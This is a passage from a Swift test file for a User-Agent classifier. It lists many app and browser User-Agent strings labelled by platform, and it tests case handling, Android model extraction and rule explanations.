        ("Grace_Health/2.9 CFNetwork/1410.0.3 Darwin/22.6.0", .ios),
        ("Samsung Health/6.24.1.003 (Android 13)", .android),
        // Privacy Browser is an Android app (its own user guide gives this string): a person on Android.
        ("PrivacyBrowser/1.0", .android),
        ("Health/1 CFNetwork/1494.0.7 Darwin/23.4.0", .ios),
        // Issue 15, fifth pass: an app that gives the mobile OS as a token of its own, beside its address.
        ("Listenwell/3.2 Android/14 (www.listenwell.example)", .android),
        ("Listenwell/3.2 (iOS; +https://listenwell.example)", .ios),
        // Issue 15, seventh pass: Rocket.Chat's desktop app (browscap's tests), whose server's fetcher is a preview.
        (
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Rocket.Chat+/2.4.0 "
                + "Chrome/53.0.2785.143 Electron/1.4.15 Safari/537.36", .desktop
        ),
        // ... and a newer one in Electron's default form, the app's name after the engine's "like Gecko)".
        (
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Rocket.Chat/4.1.0 "
                + "Chrome/124.0.6367.243 Electron/30.1.2 Safari/537.36", .desktop
        ),
        // Apps named like the renderers and test browsers that are bots.
        ("Cypress/2.1 CFNetwork/1494.0.7 Darwin/23.4.0", .ios),
        (
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) SplashApp/1.2.0 "
                + "Chrome/120.0.6099.291 Electron/28.2.10 Safari/537.36", .desktop
        ),
        // Issue 15, seventh pass: players by the strings their own sources send (reference-agents.tsv).
        ("libmpv", .other),
        ("Pocket Casts", .other),
        ("Podcini/7.3.5", .android),
        ("Clementine 1.3.1", .other),
        ("Strawberry 1.2.3", .other),
        ("Amarok/3.3.3-git", .other),
        ("w3m/0.5.3+git20230121", .other),
        ("Jerboa", .android),
        ("Thunder/0.6.0", .other),
        // Issue 15, eighth pass: more players by their own sources' strings (reference-agents.tsv).
        ("com.github.louis77.tuner/2.0.0", .other),
        ("shortwave/5.0.0-default", .other),
        ("Tauon/11.2.0", .other),
        ("vocal/2.4.2", .other),
        ("DSub", .android),
        ("supersonic/0.22.0", .other),
        ("JellyfinDesktop/2.0.0 (Darwin; unknown) Chrome/130.0.0.0", .desktop),
        ("Findroid/1.1.0 via jellyfin-sdk-kotlin (OkHttp/5.4.0)", .android),
        ("Quodlibet/4.6.0 (+https://quodlibet.readthedocs.org/)", .other),
        ("Exaile/4.2.2 (+https://www.exaile.org)", .other),
        ("deadbeef", .other),
        ("cmus/v2.12.0", .other),
        ("MPC-HC v1.9.14", .other),
        ("mopidy-stream/4.0.0 Mopidy/4.0.0 CPython/3.13.1", .other),
        ("Snapcast", .other),
        // Issue 15, ninth pass: podcast and radio apps by their own sources' strings (reference-agents.tsv).
        (
            "Pinepods/0.9.0 b20252489 (phone;ios Version 17.4 (Build 21E219)) "
                + "https://github.com/madeofpendletonwool/pinepods", .ios
        ),
        (
            "Pinepods/0.9.0 b20252489 (phone;android BP2A.250605.031) https://github.com/madeofpendletonwool/pinepods",
            .android
        ),
        ("Cardo/1.12.0", .desktop),
        ("Podfriend Mobile 1.0", .other),
        ("org.y20k.escapepod.Keys@1f2e3d4.APPLICATION_NAME 1.1.1", .android),
        ("org.y20k.transistor.Keys@6d5a3c2.APPLICATION_NAME 4.1.1", .android),
        ("audiobookshelf_channel", .android),
        ("FocusPodcast_2.8.5.20250928", .android),
        ("RadioDroid2/0.86", .android),
        // The apps of products whose servers fetch link cards: Zulip's and Nextcloud Talk's apps are people
        // (reference-agents.tsv).
        ("ZulipMobile/26.22.145 (Android 10)", .android),
        ("ZulipFlutter/0.0.15+15 (iOS 17.4)", .ios),
        ("Mozilla/5.0 (Android) Nextcloud-Talk v17.10.0", .android),
        ("Mozilla/5.0 (iOS) Nextcloud-Talk v17.0.1", .ios),
        // Lemmy clients calling their instance with their own names.
        ("VoyagerApp/1.0", .other),
        ("MlemUserAgent", .other),
        // An app naming Android first keeps it over the "Scale/" of AFNetworking's iOS format it copies.
        ("Podcasts/1.0 (Android; Android 14; Scale/2.63)", .android),
        // An OS "like Android" is not Android (browscap's tests).
        (
            "Mozilla/5.0 (Maemo; Linux; U; Jolla; Sailfish; like Android) AppleWebKit/538.1 (KHTML, like Gecko) Mobile "
                + "Safari/538.1 (compatible)", .other
        ),
        (
            "Mozilla/5.0 (Linux; Ubuntu 14.04 like Android 4.4) AppleWebKit/537.36 Chromium/35.0.1870.2 Mobile Safari/537.36",
            .other
        ),
        // ... nor Sailfish's browser writing an Android version for the sites that want one (its own per-site strings).
        ("Mozilla/5.0 (Android 8.1.0; U; Mobile; rv:78.0) Gecko/78.0 SailfishBrowser/1.0", .other),
        // Ladybird names no engine anyone else uses; its OS token gives the platform (SerenityOS's source).
        ("Mozilla/5.0 (SerenityOS; x86_64) Ladybird/1.0", .other),
        ("Mozilla/5.0 (macOS; AArch64) Ladybird/1.0", .desktop),
        // ... nor a TV browser's "Andr0id" (Opera TV's OMI on a Sony set).
        (
            "Mozilla/5.0 (Linux; Andr0id 12; BRAVIA 4K VH22) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0.5993.88 "
                + "Safari/537.36 OPR/46.0.2207.0 OMI/4.24.3.93.MIKE.227 Model/Sony-BRAVIA-VH22", .other
        ),
        // Chrome for iOS asking for the desktop site keeps its own token (developer.chrome.com).
        (
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_13_5) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/85 "
                + "Version/11.1.1 Safari/605.1.15", .ios
        ),
        // ... and a VR headset browsing as a desktop (Yauaa's tests).
        (
            "Mozilla/5.0 (X11; Linux x86_64; Quest 3) AppleWebKit/537.36 (KHTML, like Gecko) OculusBrowser/33.3.0.0.0.0 "
                + "Chrome/126.0.6478.122 Safari/537.36", .other
        ),
        // ... in its Android form too, and Wolvic, the headsets' other browser, in each of its modes (Wolvic's source,
        // which copies the Quest browser's string for sites that ask for it).
        (
            "Mozilla/5.0 (Linux; Android 7.1.1; Quest) AppleWebKit/537.36 (KHTML, like Gecko) "
                + "OculusBrowser/13.0.0.7.16.261647641 SamsungBrowser/4.0 Chrome/87.0.4280.66 Mobile VR Safari/537.36",
            .other
        ),
        (
            "Mozilla/5.0 (Linux; Android 10; Quest 3) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 "
                + "Safari/537.36 Mobile VR Wolvic/1.0", .other
        ),
        (
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36 "
                + "Wolvic/1.8.2", .other
        ),
        ("Mozilla/5.0 (Android 12; Mobile VR; rv:128.0) Gecko/128.0 Firefox/128.0 Wolvic/1.8.2", .other),
        // Issue 15, eleventh pass: VK Teams' desktop app in the pages it opens, the signed-in account's address in its
        // string (mail-ru-im/im-desktop), before and after its rename, on Linux too.
        ("myteam Desktop user@corp.example ic18BnQc91gJZX4v 10.0.0(5432) Windows_10 PC", .desktop),
        ("VKTeams Desktop user@corp.example ic1DcTU-u6i6jrDP 10.0.0(6543) Linux PC", .desktop),
        // Issue 15, twelfth pass: OS and device names at versions the corpus does not hold (Windows 11 and 8.1 by
        // their short names, UP.Browser 5, a later Apple Watch), found by varying the corpus's own strings.
        ("GOGGalaxyClient/2.0.75.1 (GOG Galaxy) 83b6745cff679691b69876bc7ee33e05e5d90bda (win11 x64)", .desktop),
        ("App/1.0 (Win8.1; x64)", .desktop),
        ("SIE-C45/1.0 UP/5.0.1.1 (GUI)", .other),
        ("Watch6,2/9.1 (20S75)", .other),
        // Issue 15, thirteenth pass: Samsung Internet asking for the desktop site sends a Linux PC's string with its
        // own token (developer.samsung.com's "Request for PC Content"): a Samsung phone, not a desktop. Its TVs
        // stay TVs.
        (
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/27.0 "
                + "Chrome/125.0.0.0 Safari/537.36", .android
        ),
        (
            "Mozilla/5.0 (SMART-TV; Linux; Tizen 5.0) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/2.2 "
                + "Chrome/63.0.3239.84 TV Safari/537.36", .other
        ),
        // Issue 15, fourteenth pass: desktop apps a person runs that write their OS in a format of their own, beside
        // the tools that do (botAgents): the Nextcloud and ownCloud sync clients and Cyberduck are people on that OS.
        (
            "Mozilla/5.0 (Windows) mirall/3.11.1 (Nextcloud, windows-10.0.22631 ClientArchitecture: x86_64 "
                + "OsArchitecture: x86_64)", .desktop
        ),
        (
            "Mozilla/5.0 (Macintosh) mirall/5.2.1 (ownCloud, osx-23.2.0 ClientArchitecture: arm64 OsArchitecture: arm64)",
            .desktop
        ),
        ("Cyberduck/8.7.2.40975 (Windows 10/10.0) (amd64)", .desktop),
        // Issue 15, seventeenth pass: players that send their name and version and nothing else, each as its own
        // source builds the string (reference-agents.tsv).
        ("mpg123/1.32.10", .other),
        ("ogg123/1.4.2", .other),
        ("xine/1.2.13", .other),
        ("qmmp/2.1.5", .other),
        ("XMMS2/0.9.7 DrPong (git commit: 1a1c713be8632fad483b951410bf3c4ac054fc88)", .other),
    ]

    @Test("browsers, in-app browsers and apps are people on their OS family", arguments: peopleAgents)
    func people(userAgent: String, platform: Platform) {
        #expect(classifier.classify(userAgent) == UserAgentClass(label: .human, platform: platform))
    }

    @Test("case does not matter")
    func caseInsensitive() {
        #expect(classifier.classify("SLACKBOT-LINKEXPANDING 1.0").label == .preview)
        #expect(classifier.classify("CURL/8.0").label == .bot)
    }

    @Test(
        "the model field of an Android comment",
        arguments: [
            ("Mozilla/5.0 (Linux; Android 13; Spider 8 Build/TP1A.220624.014; wv) AppleWebKit", "Spider 8"),
            ("Mozilla/5.0 (Linux; U; Android 4.1.1; en-us; Crawler X2 Build/JRO03H)", "Crawler X2"),
            ("Dalvik/2.1.0 (Linux; U; Android 11; zh_CN; M bot 60)", "M bot 60"),
            ("Mozilla/5.0 (Linux; U; Android 12; zh-Hans-CN; Spider 8 Build/SP1A) UCBrowser/13.4", "Spider 8"),
            ("Mozilla/5.0 (Linux; U; Android 12; es-419; Spider 8) AppleWebKit", "Spider 8"),
            ("Mozilla/5.0 (Linux; U; Android 2.3; fil-ph; Bot X Build/GRH55) AppleWebKit", "Bot X"),
            ("Mozilla/5.0 (Linux; Android 12; SM-G991B; wv) AppleWebKit", "SM-G991B"),
            ("Mozilla/5.0 (Linux; Android 12; HM-NOTE 1W) AppleWebKit", "HM-NOTE 1W"),
            ("Mozilla/5.0 (Linux;Android 9;SM-G960F)", "SM-G960F"),
            ("AndroidDownloadManager/9 (Linux; U; Android 9; LG-K420 Build/PPR1)", "LG-K420"),
            ("Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36", nil),
            ("Mozilla/5.0 (Linux; Android 10; ", nil),
            ("Android 10; Spider 8", nil),
            ("PocketCasts/7.50 (Android 14)", nil),
        ] as [(String, String?)])
    func androidModel(userAgent: String, model: String?) {
        var userAgent = userAgent
        let range = userAgent.withUTF8 { UserAgentClassifier.androidModel(in: UnsafeRawBufferPointer($0)) }
        #expect(range.map { String(decoding: Array(userAgent.utf8)[$0], as: UTF8.self) } == model)
    }

    @Test("explain names the deciding rule")
    func explainNamesRule() {
        let (verdict, rule) = classifier.explain("curl/8.5.0")
        #expect(verdict == UserAgentClass(label: .bot, platform: .other))
        #expect(rule.contains("curl"))
        #expect(classifier.explain("").rule == "empty User-Agent")
        let (human, reason) = classifier.explain("Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X)")
        #expect(human == UserAgentClass(label: .human, platform: .ios))
        #expect(reason.contains("iphone"))
        // On raw bytes it judges what the link path judges, invalid UTF-8 and all (a String would have turned
        // each bad byte into three), and a model set aside is printed without control bytes.
        let raw =
            [UInt8](repeating: 0xFF, count: 10) + [UInt8](repeating: 0x78, count: 1_001) + Array(" mastodon/4.3.0".utf8)
        raw.withUnsafeBytes { bytes in
            #expect(classifier.explain(bytes).0 == classifier.classify(bytes))
            #expect(classifier.classify(bytes).label == .preview)
        }
        let (phone, why) = classifier.explain("Mozilla/5.0 (Linux; Android 13; Spider\t8\rX) AppleWebKit/537.36")
        #expect(phone == UserAgentClass(label: .human, platform: .android))
        #expect(why.contains("\"Spider 8 X\""))
    }
}
